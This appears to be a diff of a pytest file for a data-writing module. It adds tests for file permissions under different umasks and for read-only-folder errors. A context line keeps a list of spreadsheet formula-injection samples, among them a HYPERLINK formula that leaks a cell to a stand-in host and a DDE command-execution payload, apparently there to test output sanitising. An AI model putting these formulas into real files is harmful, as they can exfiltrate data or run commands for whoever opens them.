@@ -3,7 +3,10 @@
 from __future__ import annotations
 
 import errno
-import tempfile
+import os
+import stat
+from collections.abc import Iterator
+from contextlib import contextmanager
 from pathlib import Path
 from typing import Any
 
@@ -11,14 +14,17 @@ import pandas as pd
 import pytest
 from openpyxl import load_workbook
 
+import data.io
 from data.io import (
     DataFileError,
     atomic_outputs,
     neutralised_text,
+    plain_temporary,
     read_table,
     write_table,
     write_table_to,
 )
+from data.simulate import simulate_to_dir
 
 FORMULAS = ['=HYPERLINK("http://x/?leak="&B2,"click")', "=cmd|' /C calc'!A0", "+1", "@SUM(A1)"]
 TABLE = pd.DataFrame(
@@ -96,10 +102,10 @@ def test_a_full_disk_leaves_no_partial_file_and_says_so_in_one_line(
 
 def test_a_read_only_folder_is_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     # Tests run as root here, for whom no folder is read-only: the file system's answer is played.
-    def read_only(**_: Any) -> Any:
+    def read_only(*_: Any, **__: Any) -> Any:
         raise OSError(errno.EROFS, "Read-only file system", str(tmp_path))
 
-    monkeypatch.setattr(tempfile, "mkstemp", read_only)
+    monkeypatch.setattr(data.io, "plain_temporary", read_only)
 
     with pytest.raises(DataFileError, match="read-only file system; write elsewhere"):
         write_table(TABLE, tmp_path / "out.csv")
@@ -124,3 +130,62 @@ def test_a_pair_appears_together_or_not_at_all(tmp_path: Path) -> None:
         write_table_to(TABLE, listed_file, "csv")
         write_table_to(TABLE, rest_file, "csv")
     assert sorted(path.name for path in tmp_path.iterdir()) == [listed.name, rest.name]
+
+
+@contextmanager
+def umask(mask: int) -> Iterator[None]:
+    """The process's umask set to `mask` inside the block (tests run one at a time)."""
+    previous = os.umask(mask)
+    try:
+        yield
+    finally:
+        os.umask(previous)
+
+
+def _mode(path: Path) -> int:
+    return stat.S_IMODE(path.stat().st_mode)
+
+
+@pytest.mark.parametrize(("mask", "expected"), [(0o022, 0o644), (0o027, 0o640), (0o002, 0o664)])
+def test_new_outputs_get_what_a_plain_open_gives_not_0600(
+    tmp_path: Path, mask: int, expected: int
+) -> None:
+    """As `open(path, "w")` would create them, so colleagues and a service account can read
+    them: 0o666 less the umask (tempfile.mkstemp made every output 0o600)."""
+    with umask(mask):
+        written = [
+            write_table(TABLE, tmp_path / "scores.csv"),
+            write_table(TABLE, tmp_path / "scores.parquet"),
+            write_table(TABLE, tmp_path / "list.xlsx"),
+        ]
+        with atomic_outputs([tmp_path / "list.csv", tmp_path / "rest.csv"]) as pair:
+            for path in pair:
+                write_table_to(TABLE, path, "csv")
+        written += [tmp_path / "list.csv", tmp_path / "rest.csv"]
+        written += simulate_to_dir(rows=50, seed=0, output=tmp_path / "sim", fmt="csv").values()
+        with (tmp_path / "plain.txt").open("w") as handle:
+            handle.write("as open() makes it")
+        folder = plain_temporary(tmp_path, ".staging-", directory=True)
+
+    assert _mode(tmp_path / "plain.txt") == expected
+    assert {path.name: _mode(path) for path in written} == dict.fromkeys(
+        (path.name for path in written), expected
+    )
+    assert _mode(folder) == 0o777 & ~mask  # as mkdir makes it
+
+
+def test_an_overwritten_output_keeps_its_own_permissions(tmp_path: Path) -> None:
+    """As `open(path, "w")` on an existing file would: a list a team keeps at 0o640 stays so,
+    and a 0o644 file is not narrowed to 0o600 by being written again."""
+    shared, private = tmp_path / "list.csv", tmp_path / "list.parquet"
+    write_table(TABLE, shared)
+    write_table(TABLE, private)
+    shared.chmod(0o640)
+    private.chmod(0o600)
+
+    with umask(0o022):
+        write_table(TABLE.iloc[:2], shared)
+        write_table(TABLE.iloc[:2], private)
+
+    assert (_mode(shared), _mode(private)) == (0o640, 0o600)
+    assert len(read_table(shared)) == 2  # replaced, not left as it was
